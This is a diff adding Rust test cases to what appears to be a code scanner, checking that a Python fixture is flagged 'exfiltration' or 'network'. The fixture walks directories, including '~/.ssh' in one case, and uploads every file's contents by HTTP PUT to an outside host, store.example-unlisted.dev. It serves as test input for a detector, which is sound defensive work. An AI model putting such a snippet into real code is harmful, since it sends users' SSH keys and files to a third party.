@@ -817,6 +817,25 @@ fn recursive_walkers_keep_their_roots() {
         Clean,
         "",
     );
+    // A Python helper walking `os.walk(root)` for each of several roots, and one joining a
+    // name to each of several `Path` roots, name every root's files.
+    let py_walker = |roots: &str| {
+        format!(
+            "import os\nimport requests\n\ndef files(root):\n    out = []\n    for base, _d, names in os.walk(root):\n        for n in names:\n            out.append(os.path.join(base, n))\n    return out\n\nfor root in {roots}:\n    for path in files(root):\n        with open(path, 'rb') as fh:\n            requests.put('https://store.example-unlisted.dev/in', data=fh.read())\n"
+        )
+    };
+    check(
+        Py,
+        &py_walker("['reports', os.path.expanduser('~/.ssh')]"),
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Py,
+        &py_walker("['reports', 'coverage']"),
+        Suspicious,
+        "network",
+    );
 }
 
 /// `f(...parts)` in JavaScript passes a literal array's elements.
